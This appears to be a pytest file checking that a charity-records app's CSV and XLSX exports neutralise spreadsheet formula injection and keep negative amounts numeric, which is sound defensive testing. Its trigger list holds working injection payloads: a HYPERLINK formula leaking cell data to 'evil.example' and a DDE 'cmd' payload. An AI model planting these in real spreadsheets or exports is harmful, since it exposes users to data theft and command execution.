"""Exports carry no formulas: text a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``,
tab, CR first) is neutralised with a leading quote in CSV and XLSX, XLSX text cells are strings,
and numbers — a negative amount too — stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from app.core.tabular import csv_cell, neutralise
from tests.charity_trust.helpers import create as create_trust
from tests.charity_trust.helpers import ok, trust
from tests.conftest import TokenFactory
from tests.recipient.helpers import create, household

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
TRIGGERS = [FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-12", "-12.50", "+3", "-3.5%", "1e5", "普通", "a=b", "", "'=x"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert csv_cell(-5) == -5


async def _export(client: httpx.AsyncClient, h: dict[str, str], dataset: str, fmt: str) -> bytes:
    r = await client.get(f"/api/v1/catalog/{dataset}/export", params={"format": fmt}, headers=h)
    assert r.status_code == 200, r.text
    return r.content


def _csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(content: bytes) -> list[dict[str, Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [str(c.value) for c in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


async def test_a_formula_in_a_transition_reason_is_neutralised(
    client: httpx.AsyncClient, auth: TokenFactory
) -> None:
    h = auth("operator", region="330502", sub="formula-writer")
    hid = (await create(client, h, household(region="330502011000")))["id"]
    for reason in TRIGGERS:
        r = await client.post(
            f"/api/v1/recipients/{hid}/transitions", json={"action": "review", "reason": reason}, headers=h
        )
        assert r.status_code in {200, 409}, r.text
        if r.status_code == 409:  # review needs an approved household
            await client.post(f"/api/v1/recipients/{hid}/transitions", json={"action": "verify"}, headers=h)
            await client.post(f"/api/v1/recipients/{hid}/transitions", json={"action": "approve"}, headers=h)
            r = await client.post(
                f"/api/v1/recipients/{hid}/transitions",
                json={"action": "review", "reason": reason},
                headers=h,
            )
            assert r.status_code == 200, r.text

    rows = _csv(await _export(client, h, "recipient_transition", "csv"))
    reasons = {row["reason"] for row in rows if row["household_id"] == hid}
    for text in TRIGGERS:
        assert "'" + text in reasons, (text, reasons)
    assert not any(r.startswith(("=", "+", "-", "@", "\t", "\r")) for r in reasons)

    cells = _xlsx(await _export(client, h, "recipient_transition", "xlsx"))
    ours = [row for row in cells if row["household_id"].value == hid and row["reason"].value]
    assert ours
    for row in ours:
        assert row["reason"].data_type == "s"
        assert row["version"].data_type == "n"
        assert isinstance(row["version"].value, int)
    values = {row["reason"].value for row in ours}
    assert "'" + FORMULA in values
    assert not any(str(v).startswith("=") for v in values)


async def test_negative_amounts_stay_numbers(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = auth("operator", region="330523", sub="trust-filer")
    t = await create_trust(client, h, trust(region="330523", filed_on="2022-03-05"))
    await ok(
        client,
        {**h, "If-Match": '"1"'},
        t["id"],
        "changes",
        {"type": "property", "effective_on": "2022-07-01", "filed_on": "2022-07-09", "amount": "-250000.00"},
    )
    rows = [
        r for r in _csv(await _export(client, h, "charity_trust_change", "csv")) if r["trust_id"] == t["id"]
    ]
    assert [r["amount_fen"] for r in rows] == ["-25000000"]
    cells = [
        r
        for r in _xlsx(await _export(client, h, "charity_trust_change", "xlsx"))
        if r["trust_id"].value == t["id"]
    ]
    assert [(c["amount_fen"].value, c["amount_fen"].data_type) for c in cells] == [(-25000000, "n")]


async def test_dashboard_exports_are_neutralised_too(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = auth("viewer", region="330500")
    csv_body = await client.get("/api/v1/indicators/dashboard.csv", headers=h)
    assert csv_body.status_code == 200, csv_body.text
    for row in csv.reader(io.StringIO(csv_body.content.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").rstrip("%").isdigit()
    xlsx_body = await client.get("/api/v1/indicators/dashboard.xlsx", headers=h)
    assert xlsx_body.status_code == 200
    book = load_workbook(io.BytesIO(xlsx_body.content))
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
